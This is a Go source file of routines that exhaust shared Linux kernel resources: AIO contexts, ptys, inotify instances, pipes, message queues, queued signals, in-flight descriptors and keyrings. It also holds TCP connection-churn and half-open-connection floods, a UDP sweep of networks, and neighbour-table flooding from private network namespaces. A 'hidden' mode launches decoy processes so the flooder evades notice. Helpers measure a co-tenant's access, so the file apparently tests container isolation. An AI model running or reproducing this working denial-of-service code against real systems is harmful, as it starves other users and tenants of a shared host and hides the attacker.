package main

import (
	"cmp"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"runtime"
	"sync"
	"sync/atomic"
	"time"
	"unsafe"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// pot is what the kernel counts once for all, or once for each user.
type pot struct {
	name  string
	times int          // it is taken from: more than the kernel has for all, or for a user, by itself
	one   func() error // takes from it, for as long as the process lives
}

var errSmaller = errors.New("it is smaller than others")

func pots() []pot {
	nothing, err := os.Open(os.DevNull)
	if err != nil {
		panic(err)
	}
	queues := 0
	return []pot{
		{"aio", 80, func() error { // 1024 of 65,536 events
			var id uint64
			return call(unix.SYS_IO_SETUP, 1024, uintptr(unsafe.Pointer(&id)))
		}},
		{"pty", 4100, func() error { return opened(unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY, 0)) }},
		{"inotify", 8200, func() error { return opened(unix.InotifyInit1(0)) }},
		{"pipe", 1100, func() error { // 16 of 16,384 pages
			var p [2]int
			if err := unix.Pipe(p[:]); err != nil {
				return err
			}
			if size, err := unix.FcntlInt(uintptr(p[0]), unix.F_GETPIPE_SZ, 0); err != nil || size < 64<<10 {
				return errors.Join(err, fmt.Errorf("%w: %d bytes", errSmaller, size))
			}
			return nil
		}},
		{"messages", 20, func() error { // 81,920 of 819,200 bytes
			queues++
			attributes := [8]int64{0, 10, 8192, 0}
			name := append(fmt.Appendf(nil, "attack-%d-%d", os.Getpid(), queues), 0)
			fd, _, errno := unix.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(&name[0])), unix.O_CREAT|unix.O_RDWR, 0o600,
				uintptr(unsafe.Pointer(&attributes)), 0, 0)
			if errno != 0 {
				return errno
			}
			_ = fd
			return call(unix.SYS_MQ_UNLINK, uintptr(unsafe.Pointer(&name[0])))
		}},
		{"signals", 120_000, func() error { return queueSignal() }},
		{"sent", 5, func() error { // 200 open files that nobody has received, which count for who may have few
			pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			few := make([]int, 200)
			for i := range few {
				few[i] = int(nothing.Fd())
			}
			return unix.Sendmsg(pair[0], []byte("x"), unix.UnixRights(few...), nil, 0)
		}},
		{"keyring", 250, func() error { return keyring() }},
	}
}

func opened(_ int, err error) error { return err }

// queueSignal leaves a signal waiting for this thread.
func queueSignal() error {
	const number = 40 // of those that queue up
	var blocked unix.Sigset_t
	blocked.Val[0] = 1 << (number - 1)
	if err := unix.PthreadSigmask(unix.SIG_BLOCK, &blocked, nil); err != nil {
		return err
	}
	info := [32]int32{0: number, 2: -1} // SI_QUEUE
	return call(unix.SYS_RT_TGSIGQUEUEINFO, uintptr(unix.Getpid()), uintptr(unix.Gettid()), number, uintptr(unsafe.Pointer(&info)))
}

// keyring makes one as runc does for a container. It lives with its thread.
func keyring() error {
	made := make(chan error)
	go func() {
		runtime.LockOSThread()
		_, err := unix.KeyctlJoinSessionKeyring(fmt.Sprintf("_ses.%064d", unix.Gettid()))
		made <- err
		select {}
	}()
	return <-made
}

// take takes from all pots, one after the other, says how far it came and what the
// kernel said, and holds it until its input ends.
func take() error {
	runtime.LockOSThread()
	for _, p := range pots() {
		n := 0
		var err error
		for n < p.times && err == nil {
			if err = p.one(); err == nil {
				n++
			}
		}
		said := "not refused"
		if err != nil {
			said = err.Error()
		}
		fmt.Println(p.name, n, said)
	}
	fmt.Println("taken")
	_, err := io.Copy(io.Discard, os.Stdin)
	return err
}

// use takes once from each pot, as who takes no more than others.
func use() error {
	runtime.LockOSThread()
	var few unix.Rlimit
	if err := unix.Getrlimit(unix.RLIMIT_NOFILE, &few); err != nil {
		return err
	}
	few.Cur = 512
	if err := unix.Setrlimit(unix.RLIMIT_NOFILE, &few); err != nil {
		return err
	}
	for _, p := range pots() {
		if err := p.one(); err != nil {
			fmt.Println(p.name, "closed", err)
		} else {
			fmt.Println(p.name, "open")
		}
	}
	return nil
}

// churn makes connections that are over at once.
func churn(ctx context.Context, address string, d time.Duration) error {
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	var made, failed atomic.Int64
	var wg sync.WaitGroup
	for range 64 {
		wg.Go(func() {
			for ctx.Err() == nil {
				conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
				if err != nil {
					failed.Add(1)
					continue
				}
				_, _ = io.Copy(io.Discard, conn)
				conn.Close()
				made.Add(1)
			}
		})
	}
	wg.Wait()
	fmt.Printf("made %d, failed %d\n", made.Load(), failed.Load())
	return nil
}

// half begins connections of which nobody hears.
func half(address string, d time.Duration) error {
	to, err := netip.ParseAddrPort(address)
	if err != nil {
		return err
	}
	sent, failed := 0, 0
	for end := time.Now().Add(d); time.Now().Before(end); sent++ {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		err = unix.Connect(fd, &unix.SockaddrInet4{Port: int(to.Port()), Addr: to.Addr().As4()})
		if !errors.Is(err, unix.EINPROGRESS) {
			failed++
		}
		unix.Close(fd)
	}
	fmt.Printf("begun %d, failed %d\n", sent, failed)
	return nil
}

// scan sends a packet to each address of some networks.
func scan(networks []string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	for _, text := range networks {
		network, err := netip.ParsePrefix(text)
		if err != nil {
			return err
		}
		sent, failed := 0, 0
		for a := network.Addr(); network.Contains(a); a = a.Next() {
			if err := unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Port: 9, Addr: a.As4()}); err != nil {
				failed++
			} else {
				sent++
			}
		}
		fmt.Printf("%s sent %d, failed %d\n", text, sent, failed)
	}
	return nil
}

// hoard fills the kernel's table of neighbours from network namespaces of its own with
// those that are there for good, or are said to be known by others, and holds it until its input ends.
// Hidden, it lives in none of them, has fewer in each than draw attention, and others that have many files
// open came before it.
func hoard(how []string) error {
	const namespaces, each = 4, 1 << 15 // as many as a host's table has places
	if len(how) > 0 {
		return hoardHidden(16, 8000)
	}
	for i := range namespaces {
		go func() {
			runtime.LockOSThread()
			n := netlink.Neigh{State: netlink.NUD_PERMANENT}
			if i%2 == 1 {
				n.State, n.Flags = netlink.NUD_REACHABLE, netlink.NTF_EXT_LEARNED
			}
			made, err := neighbours(n, each)
			fmt.Printf("made %d: %v\n", made, err)
			select {}
		}()
	}
	_, err := io.Copy(io.Discard, os.Stdin)
	return err
}

func hoardHidden(namespaces, each int) error {
	for range 6 {
		cmd := exec.Command("/proc/self/exe", "decoy")
		out, err := cmd.StdoutPipe()
		if err := cmp.Or(err, cmd.Start()); err != nil {
			return err
		}
		if _, err := out.Read(make([]byte, 100)); err != nil {
			return fmt.Errorf("decoy: %w", err)
		}
	}
	runtime.LockOSThread()
	own, err := os.Open("/proc/thread-self/ns/net")
	if err != nil {
		return err
	}
	var kept []*os.File
	for i := range namespaces {
		made, err := neighbours(netlink.Neigh{State: netlink.NUD_PERMANENT}, each)
		fmt.Printf("made %d: %v\n", i*each+made, err)
		f, err := os.Open("/proc/thread-self/ns/net")
		if err := cmp.Or(err, unix.Setns(int(own.Fd()), unix.CLONE_NEWNET)); err != nil {
			return err
		}
		kept = append(kept, f)
	}
	_, err = io.Copy(io.Discard, os.Stdin)
	runtime.KeepAlive(kept)
	return err
}

// decoy has as many files open as it may, sockets, until it is killed.
func decoy() error {
	socket, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	files := 1
	for ; err == nil && files < 1<<19; files++ {
		_, err = unix.Dup(socket)
	}
	fmt.Println("has", files)
	for {
		_ = unix.Pause()
	}
}

func neighbours(n netlink.Neigh, count int) (made int, err error) {
	if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
		return 0, err
	}
	h, err := netlink.NewHandle(unix.NETLINK_ROUTE)
	if err != nil {
		return 0, err
	}
	br := &netlink.Bridge{LinkAttrs: netlink.NewLinkAttrs()}
	br.Name = "many"
	if err := cmp.Or(h.LinkAdd(br), h.LinkSetUp(br)); err != nil {
		return 0, err
	}
	for i := range count {
		n.LinkIndex, n.IP = br.Index, net.IPv4(10, byte(i>>16), byte(i>>8), byte(i))
		n.HardwareAddr = net.HardwareAddr{2, 0, 0, byte(i >> 16), byte(i >> 8), byte(i)}
		if err := h.NeighSet(&n); err != nil {
			return i, err
		}
	}
	return count, nil
}

// meet connects again and again, and says how often it could and how long it took at most.
func meet(ctx context.Context, address string, d time.Duration) error {
	good, bad, worst, first := 0, 0, time.Duration(0), "none"
	for end := time.Now().Add(d); time.Now().Before(end) || good+bad < 10; time.Sleep(100 * time.Millisecond) {
		began := time.Now()
		conn, err := (&net.Dialer{Timeout: 10 * time.Second}).DialContext(ctx, "tcp", address)
		worst = max(worst, time.Since(began))
		if err == nil {
			good++
			conn.Close()
		} else if bad++; bad == 1 {
			first = err.Error()
		}
	}
	fmt.Printf("connected %d, refused %d, worst %d ms; first: %s\n", good, bad, worst.Milliseconds(), first)
	return nil
}
